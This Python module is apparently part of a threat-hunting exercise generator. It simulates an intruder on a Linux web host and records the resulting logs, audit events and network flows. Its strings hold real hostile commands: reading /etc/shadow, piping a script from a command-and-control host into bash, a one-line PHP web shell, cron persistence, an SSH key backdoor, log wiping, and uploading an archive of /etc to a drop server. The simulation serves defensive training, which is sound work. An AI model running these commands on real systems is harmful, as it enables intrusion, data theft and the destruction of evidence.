"""The incident: what the intruder does on the web host, act by act."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from random import Random

from linuxhunt.evidence import sample_audit as audit
from linuxhunt.evidence import sample_utmp as utmp
from linuxhunt.evidence.sample_host import UNSET, Seat
from linuxhunt.evidence.sample_logon import guess, session
from linuxhunt.evidence.sample_root import add_user, cron_job, run, sudo, sudo_list, sudo_shell
from linuxhunt.evidence.sample_sim import Actor
from linuxhunt.evidence.sample_work import DAY, Site

__all__ = ["spawn_incident"]


def spawn_incident(site: Site) -> None:
    """Let the intruder begin: in the small hours of the second day."""
    random = site.random("incident")
    when = DAY + timedelta(days=1, hours=1, minutes=random.randrange(50, 80))
    site.world.spawn(_Intruder(site, random).breaks_in(), site.world.until(when))


class _Intruder:
    def __init__(self, site: Site, random: Random) -> None:
        self.site, self.cast, self.random = site, site.cast, random
        self.world, self.wire, self.host = site.world, site.wire, site.web.host
        self.hide = random.choice(("/dev/shm", "/tmp", "/var/tmp"))
        self.uid = 1020 + random.randrange(5)
        self.port = random.choice((443, 443, 8443))

    def begin(self, act: str, technique: str, description: str) -> None:
        self.world.begin(act, technique, description, self.host.name)

    def breaks_in(self) -> Actor:
        """Guess, get in with the weak password, work through the night."""
        cast, random = self.cast, self.random
        self.begin(
            "guess",
            "T1110.001",
            f"{cast.guesser} guesses passwords of {len(cast.guessed)} users",
        )
        total = random.randrange(110, 150)
        for n in range(total):
            user = random.choice(cast.guessed)
            self.world.spawn(guess(self.site.web, user, cast.guesser, random.randint(2, 3)))
            yield random.uniform(1.5, 5.0) if n + 1 < total else random.uniform(8, 20)
        yield 6.0
        self.begin("login", "T1078.003", f"{cast.guesser} logs on as {cast.victim}")
        yield from session(self.site.web, cast.victim, cast.guesser, self._night)

    def _night(self, seat: Seat) -> Actor:
        """Within the first session; how long each part takes is drawn."""
        random = self.random
        yield random.uniform(15, 60)
        self.begin("discovery", "T1033", "looks around as the guessed user")
        first = ["id", "whoami", "w", "uname -a", "cat /etc/passwd", "ls -la /home", "sudo -l"]
        random.shuffle(first)
        for command in first:
            yield random.uniform(2, 14)
            yield from sudo_list(seat) if command == "sudo -l" else run(seat, command)
        yield random.uniform(10, 40)
        self.begin("shadow", "T1003.008", "reads password hashes through sudo")
        yield from sudo(seat, random.choice(("cat /etc/shadow", "cp /etc/shadow /tmp/.s")))
        yield random.uniform(10, 40)
        how = random.choice(("-i", "bash", "su -"))
        self.begin("root", "T1548.003", f"gets a root shell by sudo {how}")
        root = yield from sudo_shell(seat, how)
        steps: list[Callable[[Seat], Actor]] = [
            self._account,
            self._implant,
            self._web_shell,
            self._archive,
        ]
        random.shuffle(steps)
        for step in steps:
            yield random.uniform(40, 300)
            yield from step(root.seat)
        yield random.uniform(60, 200)
        self.begin("cover", "T1070.003", "clears shell history and login records")
        wipes = [
            "rm -f /root/.bash_history",
            "ln -sf /dev/null /root/.bash_history",
            "truncate -s 0 /var/log/wtmp /var/log/btmp /var/log/lastlog",
            f"shred -u /home/{self.cast.victim}/.bash_history",
            "journalctl --rotate --vacuum-time=1s",
        ]
        for command in wipes:
            yield random.uniform(2, 9)
            yield from run(root.seat, command)
            if command.startswith("truncate"):
                utmp.wiped(self.host)
        yield random.uniform(5, 20)
        self.begin("root", "", "")
        root.close()
        yield 3.0
        self.begin("login", "", "")
        yield 0.5

    def _account(self, root: Seat) -> Actor:
        cast, name = self.cast, self.cast.added
        self.begin("account", "T1136.001", f"adds the account {name}, a member of sudo")
        yield from add_user(root, name, self.uid, ("sudo",))
        self.host.sudoers.add(name)
        yield self.random.uniform(10, 40)
        self.begin("key", "T1098.004", f"gives {name} a key of the intruder's own")
        ssh = f"/home/{name}/.ssh"
        key = f"AAAAC3NzaC1lZDI1NTE5AAAAI{cast.keys[name][:43]}"
        line = f"echo 'ssh-ed25519 {key} x@y' >> {ssh}/authorized_keys"
        yield from run(
            root,
            f"mkdir -p {ssh}",
            f'sh -c "{line}"',
            f"chmod 600 {ssh}/authorized_keys",
            f"chown -R {name}:{name} {ssh}",
            pause=self.random.uniform(1, 4),
        )
        back = timedelta(hours=self.random.uniform(17, 30))
        self.world.spawn(self._comes_back(), back.total_seconds())

    def _comes_back(self) -> Actor:
        """Log on as the new account with the key, and stay."""
        cast = self.cast
        self.begin("return", "T1078.003", f"{cast.entry} logs on as {cast.added} with the key")
        key = f"ED25519 SHA256:{cast.keys[cast.added]}"
        yield from session(self.site.web, cast.added, cast.entry, self._stays, key=key)

    def _stays(self, seat: Seat) -> Actor:
        for command in ("w", "ss -tnp", f"ls -la {self.hide}"):
            yield self.random.uniform(5, 30)
            yield from run(seat, command)
        yield from sudo(seat, "crontab -l", password=True, works=self._lists)
        yield 10 * 86400.0  # still in when the evidence is taken

    def _lists(self, crontab: Seat) -> Actor:
        self.host.log("cron", "crontab", crontab.pid, "(root) LIST (root)")
        yield 0.02

    def _implant(self, root: Seat) -> Actor:
        cast, random = self.cast, self.random
        target = f"{self.hide}/{cast.implant}"
        url = f"http://{cast.domain}/a/{cast.implant.lstrip('.')}"
        self.begin("download", "T1105", f"fetches {target} from {cast.c2} and starts it")
        self._fetch(sent=310, received=random.randrange(40_000, 90_000))
        yield from run(root, f"curl -fsSL {url}.sh", "bash", pause=0.1)
        self._fetch(sent=300, received=random.randrange(2_000_000, 4_000_000))
        yield from run(
            root, f"curl -s -o {target} {url}", f"chmod 755 {target}", pause=random.uniform(1, 3)
        )
        pid = audit.execve(root, f"nohup {target} -q")
        yield 0.002
        audit.execve(root, [target, "-q"], pid=pid)  # nohup becomes what it starts
        self.world.spawn(self._beacon(), 4.0)
        yield random.uniform(20, 90)
        minutes = random.choice((20, 30, 60))
        self.begin("cron", "T1053.003", f"has cron look after {target} every {minutes} minutes")
        command = f"pgrep -f {cast.implant} >/dev/null || {target} -q >/dev/null 2>&1"
        if random.random() < 0.5:
            pid = audit.execve(root, ["crontab", "-"])
            yield 0.1
            self.host.log("cron", "crontab", pid, "(root) REPLACE (root)")
            reload = "(root) RELOAD (crontabs/root)"
        else:
            line = f"{'0' if minutes == 60 else f'*/{minutes}'} * * * * root {command}"
            yield from run(root, ["sh", "-c", f"echo '{line}' > /etc/cron.d/{cast.added}"])
            reload = f"(*system*{cast.added}) RELOAD (/etc/cron.d/{cast.added})"
        yield 60.0 - (self.world.now / 1e6) % 60 + 0.5
        self.host.log("cron", "cron", self.host.logind - 30, reload)
        self.world.spawn(self._jobs(command, minutes * 60))

    def _fetch(self, sent: int, received: int) -> None:
        self.wire.flow(
            self.host.address, self.cast.c2, 80, "http", sent=sent, received=received, duration=0.8
        )

    def _jobs(self, command: str, every: int) -> Actor:
        while True:
            yield every - (self.world.now / 1e6) % every + 1.02
            self.world.spawn(
                cron_job(self.host, "root", command, (f"pgrep -f {self.cast.implant}",), 0.05)
            )
            yield 1.0

    def _beacon(self) -> Actor:
        """Call home about every minute: a tenth of jitter, few calls lost."""
        random = Random(self.random.random())  # for days: its own stream
        self.begin("beacon", "T1071.001", f"calls {self.cast.c2} about every minute")
        while True:
            lost = random.random() < 0.03
            if not lost:
                self.wire.flow(
                    self.host.address,
                    self.cast.c2,
                    self.port,
                    "ssl",
                    sent=random.randrange(890, 940),
                    received=random.randrange(1210, 1290),
                    duration=random.uniform(0.15, 0.4),
                )
            yield 60.0 * random.uniform(0.9, 1.1)

    def _web_shell(self, root: Seat) -> Actor:
        cast, random = self.cast, self.random
        path = f"/var/www/html/assets/{cast.shell}"
        self.begin("webshell", "T1505.003", f"puts {path} into the web site")
        code = "<?php @system($_REQUEST['c']); ?>"
        yield from run(
            root, ["sh", "-c", f'echo "{code}" > {path}'], f"chown www-data: {path}", pause=1.2
        )
        self.world.spawn(self._visits(), random.uniform(600, 7200))

    def _visits(self) -> Actor:
        """Call the web shell from a third address: php-fpm's children start a shell each time."""
        cast, random, host = self.cast, self.random, self.host
        self.begin("webshell use", "T1059.004", f"{cast.visitor} runs commands by the web shell")
        uid = host.users["www-data"]
        worker, where = host.pid(), "/var/www/html/assets"
        for asked in ("id;whoami", "uname -a", "cat /var/www/html/config.php", "ls -la /tmp"):
            self.wire.flow(
                cast.visitor,
                host.address,
                443,
                "ssl",
                sent=random.randrange(900, 1200),
                received=random.randrange(1500, 4000),
                duration=random.uniform(0.2, 0.9),
            )
            yield 0.05
            # Nobody logged on: neither login uid nor session, and php-fpm's worker is the parent.
            shell = Seat(host, "www-data", uid, UNSET, UNSET, "", worker, where, "web")
            shell.pid = audit.execve(shell, ["sh", "-c", asked])
            for part in asked.split(";"):
                yield 0.01
                audit.execve(shell, part)
            yield random.uniform(15, 200)

    def _archive(self, root: Seat) -> Actor:
        cast, random = self.cast, self.random
        archive = f"{self.hide}/.{random.choice(('b', 'dump', 'x'))}.tgz"
        self.begin("archive", "T1560.001", f"packs the site's data into {archive}")
        yield from run(root, f"tar czf {archive} /srv/app /var/www/html /etc", pause=0.2)
        yield random.uniform(40, 90)
        self.begin("upload", "T1048.002", f"sends {archive} to {cast.drop}")
        seconds = random.uniform(150, 400)
        self.wire.flow(
            self.host.address,
            cast.drop,
            443,
            "ssl",
            sent=random.randrange(1_400_000_000, 1_600_000_000),
            received=random.randrange(400_000, 900_000),
            duration=seconds,
        )
        yield from run(root, f"curl -s -T {archive} https://{cast.drop}/u/", pause=seconds)
        yield from run(root, f"rm -f {archive}")
